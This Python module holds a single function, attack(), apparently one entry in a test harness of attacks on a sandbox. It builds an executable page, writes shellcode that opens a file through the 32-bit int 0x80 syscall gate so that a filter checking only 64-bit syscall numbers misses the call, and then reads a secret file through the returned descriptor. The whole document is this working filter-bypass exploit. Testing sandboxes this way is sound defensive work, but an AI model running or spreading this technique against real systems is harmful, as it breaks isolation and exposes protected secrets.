"""Opens a file through the gate for 32-bit programs, whose calls have other numbers."""

import ctypes
import mmap
import os


def attack(A):
    page = mmap.mmap(-1, 4096, mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | 0x40, prot=7)  # below 4 GiB
    start = ctypes.addressof(ctypes.c_char.from_buffer(page))
    # push rbx; mov eax, 5 (open); mov ebx, edi; xor ecx, ecx; xor edx, edx; int 80h; pop rbx; ret
    page[:17] = bytes.fromhex("53b80500000089fb31c931d2cd805bc3") + b"\0"
    page[64 : 65 + len(TARGET["secret"])] = TARGET["secret"].encode() + b"\0"
    descriptor = ctypes.CFUNCTYPE(ctypes.c_int, ctypes.c_uint)(start)(start + 64)
    return os.read(descriptor, 100).decode()
